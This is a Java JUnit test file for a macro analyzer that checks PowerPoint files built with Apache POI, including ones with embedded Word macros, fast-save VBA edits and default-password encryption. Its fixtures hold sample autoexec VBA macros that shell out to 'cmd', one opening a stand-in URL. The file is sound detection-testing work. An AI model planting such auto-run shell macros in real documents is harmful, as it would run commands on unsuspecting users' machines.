package org.peekaboo.office;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.peekaboo.office.testing.OfficeFiles.module;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.apache.poi.hpsf.ClassIDPredefined;
import org.apache.poi.hslf.usermodel.HSLFSlide;
import org.apache.poi.hslf.usermodel.HSLFSlideShow;
import org.apache.poi.hslf.usermodel.HSLFTextBox;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.peekaboo.office.testing.OfficeFiles;
import org.peekaboo.office.testing.PowerPointFiles;
import org.peekaboo.ruleset.UndecidableDocumentException;

/**
 * The record walker on presentations written by Apache POI's HSLF, which writes them as
 * PowerPoint does: masters, slides with text, a persist directory of many entries, embedded
 * objects in ExObjList. Our own test files hold only the records that lead to macros.
 */
class PowerPointHslfTest {
    private static final Map<String, String> DROPPER = module("Module1",
            "Sub OnSlideShowTerminate(ByVal SSW As SlideShowWindow)",
            "  Shell \"cmd /c start http://example.invalid/t\", 0",
            "End Sub");

    private final MacroAnalyzer analyzer = MacroAnalyzer.withDefaultLimits();

    @TempDir
    Path dir;

    @Test
    void anOrdinaryPresentationHasNoMacros() throws IOException {
        assertThat(analyze(presentation(null))).isEqualTo(OleReport.NO_MACROS);
    }

    @Test
    void aMacroDocumentEmbeddedInAPresentationIsFound() throws IOException {
        byte[] doc = OfficeFiles.doc(module("ThisDocument", "Private Sub Document_Open()",
                "  Shell \"cmd /c calc\", 0", "End Sub"));

        OleReport report = analyze(presentation(doc));

        assertThat(report.detectedAutoexec()).containsExactly("Document_Open: Runs when the Word document is opened");
    }

    @Test
    void aVbaProjectAddedByAFastSaveIsFoundThroughTheNewestEdit() throws IOException {
        byte[] ppt = PowerPointFiles.withVba(presentation(null), DROPPER);

        // HSLF still reads the file and its slides: the added edit is well-formed.
        try (HSLFSlideShow show = new HSLFSlideShow(new ByteArrayInputStream(ppt))) {
            assertThat(show.getSlides()).hasSize(2);
        }
        List<String> labels = new ArrayList<>();
        try (POIFSFileSystem fs = new POIFSFileSystem(new ByteArrayInputStream(ppt))) {
            byte[] stream = fs.createDocumentInputStream(PowerPointStorages.DOCUMENT_STREAM).readAllBytes();
            byte[] user = fs.createDocumentInputStream(PowerPointStorages.CURRENT_USER_STREAM).readAllBytes();
            new PowerPointStorages(MacroLimits.DEFAULT, new PowerPointStorages.Budget(MacroLimits.DEFAULT))
                    .forEach(stream, user, "x.ppt", (label, compoundFile) -> labels.add(label));
        }
        assertThat(labels).containsExactly("x.ppt/VBA project");
        assertThat(analyze(ppt).detectedAutoexec()).containsExactly(
                "OnSlideShowTerminate: Runs when a PowerPoint slide show ends");
    }

    @Test
    void aPresentationEncryptedWithPowerPointsDefaultPasswordIsDecryptedAndRead() throws IOException {
        byte[] plain = PowerPointFiles.withVba(PowerPointFiles.presentation("Angebot"), DROPPER);
        byte[] silent = PowerPointFiles.encrypted(plain, "/01Hannes Ruescher/01");
        byte[] secret = PowerPointFiles.encrypted(plain, "Angebot-Maerz-2026");

        assertThat(currentUserToken(silent)).isEqualTo(0xF3D1C4DF);
        assertThat(analyze(silent).detectedAutoexec()).containsExactly(
                "OnSlideShowTerminate: Runs when a PowerPoint slide show ends");
        assertThatThrownBy(() -> analyze(secret)).isInstanceOfSatisfying(OfficeDocumentException.class,
                e -> assertThat(e.kind()).isEqualTo(UndecidableDocumentException.Kind.ENCRYPTED));
    }

    private static int currentUserToken(byte[] ppt) throws IOException {
        try (POIFSFileSystem fs = new POIFSFileSystem(new ByteArrayInputStream(ppt))) {
            byte[] user = fs.createDocumentInputStream(PowerPointStorages.CURRENT_USER_STREAM).readNBytes(16);
            return java.nio.ByteBuffer.wrap(user).order(java.nio.ByteOrder.LITTLE_ENDIAN).getInt(12);
        }
    }

    /** Two slides with text, optionally an embedded OLE object. */
    private static byte[] presentation(byte[] embedded) throws IOException {
        try (HSLFSlideShow show = new HSLFSlideShow()) {
            for (String text : new String[] {"Quarterly figures", "Outlook"}) {
                HSLFSlide slide = show.createSlide();
                HSLFTextBox box = slide.createTextBox();
                box.setText(text);
                box.setAnchor(new java.awt.Rectangle(50, 50, 400, 60));
            }
            if (embedded != null) {
                POIFSFileSystem object = new POIFSFileSystem(new ByteArrayInputStream(embedded));
                object.getRoot().setStorageClsid(ClassIDPredefined.WORD_V8.getClassID());
                show.addEmbed(object);
            }
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            show.write(out);
            return out.toByteArray();
        }
    }

    private OleReport analyze(byte[] content) throws IOException {
        Path file = Files.createTempFile(dir, "h", ".ppt");
        Files.write(file, content);
        return analyzer.analyze(file);
    }
}
